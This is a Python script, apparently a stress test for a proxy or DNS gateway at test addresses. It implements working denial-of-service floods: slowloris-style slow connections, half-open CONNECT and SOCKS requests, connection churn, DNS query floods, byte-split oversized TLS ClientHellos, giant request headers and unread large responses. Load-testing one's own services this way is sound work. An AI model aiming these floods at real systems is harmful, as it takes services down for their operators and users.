"""A hostile client: fills one thing of the gate for a while. Prints how often it did, and ends.

    attack-flood.py KIND SECONDS
"""

import os
import socket
import struct
import sys
import threading
import time

KIND, END = sys.argv[1], time.monotonic() + float(sys.argv[2])
GATE = "198.18.0.1"
DOORS = {"http": (GATE, 3128), "socks": (GATE, 1080), "dns": (GATE, 53), "tls": ("example.test", 443), "plain": ("example.test", 80)}
BEGINS = {
    "http": b"GET http://example.test/ok HTTP/1.1\r\nHost: example.test\r\nX: ", "socks": b"\5\1\0\5\1\0\3\xff", "dns": b"\x0f\xff",
    "tls": b"\x16\3\1\x3f\xff\1\0\x3f\xfb", "plain": b"GET /ok HTTP/1.1\r\nHost: example.test\r\nX: ",
}
TARGETS = {door: (socket.gethostbyname(host), port) for door, (host, port) in DOORS.items()}


def connected(door):
    out = socket.create_connection(TARGETS[door], 3)
    out.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return out


def slow(door):
    """As many connections as there may be, each of which says a byte now and then and never all."""
    held = []
    while time.monotonic() < END:
        try:
            while len(held) < 180:
                held.append(connected(door))
                held[-1].sendall(BEGINS[door])
        except OSError:
            pass
        for out in list(held):
            try:
                out.sendall(b"a")
            except OSError:
                held.remove(out)
        time.sleep(0.3)
    return len(held)


def half_open():
    """Refused connections whose client neither ends its half nor reads."""
    held, count = [], 0
    while time.monotonic() < END:
        try:
            held.append(connected("http" if count % 2 else "socks"))
            held[-1].sendall(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test\r\n\r\n" if count % 2 else b"\5\1\0\5\1\0\3\x09evil.test\1\xbb")
            count += 1
        except OSError:
            time.sleep(0.02)
        if len(held) > 900:
            held.pop(0).close()
    return count


def churn():
    """Connections that are opened and closed as fast as can be."""
    count = 0
    while time.monotonic() < END:
        for door in TARGETS:
            try:
                connected(door).close()
                count += 1
            except OSError:
                pass
    return count


def query(name):
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
    asked = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", 1, 1)
    return struct.pack("!H", len(asked)) + asked


def names():
    """Queries for names that differ, whose answers nobody reads."""
    outs, count = [connected("dns") for _ in range(8)], 0
    for out in outs:
        out.setblocking(False)
    while time.monotonic() < END:
        for at, out in enumerate(outs):
            batch = b"".join(query(f"n{count + n}.{'a' * 60}.test") for n in range(100))
            try:
                sent = out.send(batch)
                count += sent // 80
                if sent < len(batch):
                    raise OSError
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                outs[at] = connected("dns")
                outs[at].setblocking(False)
    return count


def hellos():
    """ClientHellos as great as there can be, in the smallest records."""
    body = b"\1\0\xff\xf0" + b"x" * 10_000
    message = b"".join(b"\x16\3\1\0\1" + body[at:at + 1] for at in range(len(body)))
    held, count = [], 0
    while time.monotonic() < END:
        try:
            held.append(connected("tls"))
            held[-1].sendall(message)
            count += 1
        except OSError:
            pass
        if len(held) > 300:
            held.pop(0).close()
    return count


def heads():
    """Heads of requests as great as there can be, a byte at a time."""
    count = 0
    while time.monotonic() < END:
        try:
            with connected("http") as out:
                out.settimeout(2)
                for at in range(2_000):
                    out.sendall(b"GET http://example.test/"[at:at + 1] or b"a")
                out.sendall(b"a" * 20_000)
                count += 1
                out.recv(16)
        except OSError:
            pass
    return count


def unread():
    """Asks for much and reads none of it."""
    held = []
    while time.monotonic() < END:
        try:
            if len(held) < 100:
                held.append(connected("plain"))
                held[-1].sendall(b"GET /bytes/20000000 HTTP/1.1\r\nHost: example.test\r\n\r\n" * 20)
        except OSError:
            pass
        time.sleep(0.01)
    return len(held)


FLOODS = {"half-open": half_open, "churn": churn, "names": names, "hellos": hellos, "heads": heads, "unread": unread}
if KIND == "slow":
    threads = [threading.Thread(target=slow, args=(door,)) for door in TARGETS]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(len(threads), flush=True)
else:
    print(FLOODS[KIND](), flush=True)
os._exit(0)
